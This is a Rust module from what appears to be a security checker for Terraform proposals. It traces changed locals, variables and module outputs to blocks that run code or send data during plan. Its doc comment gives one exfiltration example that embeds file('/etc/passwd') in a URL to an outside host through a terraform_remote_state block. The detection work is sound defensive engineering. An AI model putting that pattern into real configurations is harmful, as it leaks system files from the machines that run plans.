//! Reach analysis: finds changed values that flow into blocks which execute code or send data while Terraform
//! plans.
//!
//! Owns: the graph of the blocks of a configuration, and two queries on it. Must not know: the caller, how a run
//! works.
//!
//! A plan evaluates more than the changed block. Example: the proposal changes one local and nothing else.
//!
//! ```text
//! locals { url = "http://elsewhere/${file("/etc/passwd")}" }         changed: a root
//!   └─ referenced by  data "terraform_remote_state" "x"              a sink: the plan sends the value
//! ```
//!
//! [`ConfigurationGraph::first_reached_sink`] walks from every changed block to the blocks that reference it, through locals,
//! variables, outputs and local modules, and returns the first sink. [`ConfigurationGraph::first_sink`] returns a sink of the
//! configuration itself. A block that cannot be analyzed counts as a sink.

mod functions;
pub(crate) mod lexical;
mod parse;
mod references;
#[cfg(test)]
mod tests;

use hcl_edit::{expr::Expression, structure::Block};
use std::{
    collections::{BTreeMap, BTreeSet, VecDeque},
    fmt,
};

/// A folder under the folder of the board (empty for that folder itself), and a name such as `local.url` or
/// `data.http.x`.
type ConfigurationBlockKey = (String, String);

/// The blocks of the files of a board and of foreign files in the same folder.
#[derive(Debug, Default)]
pub struct ConfigurationGraph {
    items: BTreeMap<ConfigurationBlockKey, ConfigurationBlock>,
    /// Calls of modules with known files: the call and the module folder.
    calls: Vec<(ConfigurationBlockKey, String)>,
    /// Files that cannot be parsed or that Terraform would parse differently.
    unreadable: Vec<String>,
    /// The first block that needs a provider other than the built-in one.
    fetched: Option<String>,
    /// Constant paths that are passed to file functions.
    files: BTreeSet<String>,
}

/// One block, local, module input or provider requirement.
#[derive(Debug, Default)]
struct ConfigurationBlock {
    /// The display label, such as `data http x in main.tf`.
    label: String,
    /// The source parts; override files add to them.
    parts: Vec<ConfigurationBlockPart>,
    references: BTreeSet<BlockReference>,
    /// The block executes code or sends data when it is planned or applied.
    is_sink: bool,
    /// Calls of functions that read a file outside the module folder or that cannot be analyzed.
    unsafe_calls: Vec<String>,
}

impl ConfigurationBlock {
    /// Describes the sink; `None` when the block is harmless.
    fn describe_sink(&self) -> Option<String> {
        match (self.is_sink, self.unsafe_calls.first()) {
            (true, _) => Some(self.label.clone()),
            (false, call) => call.map(|call| format!("{call} of {}", self.label)),
        }
    }
}

#[derive(Debug, PartialEq)]
enum ConfigurationBlockPart {
    Block(Box<Block>),
    Expression(Box<Expression>),
    Text(String),
}

/// A name used in an expression, with its folder.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum BlockReference {
    One(ConfigurationBlockKey),
    /// Every item whose name starts with this prefix.
    Every(ConfigurationBlockKey),
    /// An output of a module; all outputs when `None`.
    Output(ConfigurationBlockKey, Option<String>),
}

/// A block that would execute code or send data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReachedSideEffect {
    /// For example `data http x in main.tf`.
    pub block: String,
    /// The changed block whose value reaches it; `None` when the block itself is new or changed.
    pub from: Option<String>,
}

impl fmt::Display for ReachedSideEffect {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.from {
            None => f.write_str(&self.block),
            Some(from) => write!(f, "{}, which uses the changed {from}", self.block),
        }
    }
}

impl ConfigurationGraph {
    /// Reads files by their path in the folder of the board: `.tf`, `.tofu`, their JSON variants, `.tfvars`.
    /// Ignores other files.
    pub fn read<'a>(files: impl IntoIterator<Item = (&'a str, &'a [u8])>) -> Self {
        let mut configuration = Self::default();
        let files: Vec<(&str, &[u8])> = files.into_iter().collect();
        let folders: BTreeSet<String> = files
            .iter()
            .filter(|(path, _)| parse::is_configuration(path))
            .map(|(path, _)| parse::folder_of(path).to_owned())
            .collect();
        for (path, bytes) in files {
            configuration.add_file(path, bytes, &folders);
        }
        configuration
    }

    /// Returns the first sink that a difference from `before` reaches. Without `before`, everything counts as new.
    pub fn first_reached_sink(&self, before: Option<&Self>) -> Option<ReachedSideEffect> {
        if let Some(file) = self.unreadable.first() {
            return Some(ReachedSideEffect { block: format!("{file}, which cannot be parsed"), from: None });
        }
        let known = |key: &ConfigurationBlockKey| before.and_then(|before| before.items.get(key));
        let changed =
            self.items.iter().filter(|(key, item)| known(key).is_none_or(|known| known.parts != item.parts));
        let removed = before.into_iter().flat_map(|before| before.items.keys());
        let removed = removed.filter(|key| !self.items.contains_key(*key));
        let roots: BTreeSet<ConfigurationBlockKey> =
            changed.map(|(key, _)| key).chain(removed).cloned().collect();
        let users = self.users();
        let mut from: BTreeMap<ConfigurationBlockKey, Option<ConfigurationBlockKey>> =
            roots.into_iter().map(|root| (root, None)).collect();
        let mut waiting: VecDeque<ConfigurationBlockKey> = from.keys().cloned().collect();
        while let Some(key) = waiting.pop_front() {
            for user in users.get(&key).into_iter().flatten() {
                if !from.contains_key(user) {
                    let root = from.get(&key).cloned().flatten().unwrap_or_else(|| key.clone());
                    from.insert(user.clone(), Some(root));
                    waiting.push_back(user.clone());
                }
            }
        }
        from.iter().find_map(|(key, root)| {
            let item = self.items.get(key)?;
            let block = item.describe_sink()?;
            let from = root.as_ref().map(|root| match self.items.get(root) {
                Some(root) => root.label.clone(),
                None => root.1.clone(),
            });
            Some(ReachedSideEffect { block, from })
        })
    }

    /// Returns the first block that executes code or sends data when the configuration is planned unchanged.
    pub fn first_sink(&self) -> Option<String> {
        if let Some(file) = self.unreadable.first() {
            return Some(format!("{file}, which cannot be parsed"));
        }
        self.items.values().find_map(ConfigurationBlock::describe_sink)
    }

    /// Returns whether the configuration sets a backend.
    pub fn has_backend(&self) -> bool {
        self.items.contains_key(&(String::new(), "terraform.backend".to_owned()))
    }

    /// Returns the first block for which `init` downloads something. A file that cannot be analyzed counts.
    pub fn first_fetched(&self) -> Option<String> {
        self.unreadable.first().or(self.fetched.as_ref()).cloned()
    }

    /// Returns the files that functions read by a constant path, by path in the folder of the board.
    pub fn constant_files(&self) -> impl Iterator<Item = &str> {
        self.files.iter().map(String::as_str)
    }

    /// Returns the users of each item.
    fn users(&self) -> BTreeMap<ConfigurationBlockKey, BTreeSet<ConfigurationBlockKey>> {
        let mut users: BTreeMap<ConfigurationBlockKey, BTreeSet<ConfigurationBlockKey>> = BTreeMap::new();
        let mut add = |used: ConfigurationBlockKey, user: &ConfigurationBlockKey| {
            if used != *user {
                users.entry(used).or_default().insert(user.clone());
            }
        };
        for (user, item) in &self.items {
            for reference in &item.references {
                for used in self.resolve(reference) {
                    add(used, user);
                }
            }
        }
        for (call, folder) in &self.calls {
            for user in self.items.keys().filter(|(of, _)| of == folder) {
                // The count and the providers of a module call affect everything in the module.
                add(call.clone(), user);
                if let Some(variable) = user.1.strip_prefix("var.") {
                    add((call.0.clone(), format!("{}/{variable}", call.1)), user);
                }
            }
        }
        users
    }

    fn resolve(&self, reference: &BlockReference) -> Vec<ConfigurationBlockKey> {
        let starting = |folder: &String, prefix: &str| -> Vec<ConfigurationBlockKey> {
            let from = (folder.clone(), prefix.to_owned());
            let all = self.items.range(from..).map(|(key, _)| key);
            all.take_while(|key| key.0 == *folder && key.1.starts_with(prefix)).cloned().collect()
        };
        match reference {
            BlockReference::One(key) => vec![key.clone()],
            BlockReference::Every((folder, prefix)) => starting(folder, prefix),
            BlockReference::Output(call, output) => {
                let mut used = vec![call.clone()];
                for (_, folder) in self.calls.iter().filter(|(known, _)| known == call) {
                    match output {
                        Some(name) => used.push((folder.clone(), format!("output.{name}"))),
                        None => used.extend(starting(folder, "output.")),
                    }
                }
                used
            }
        }
    }
}
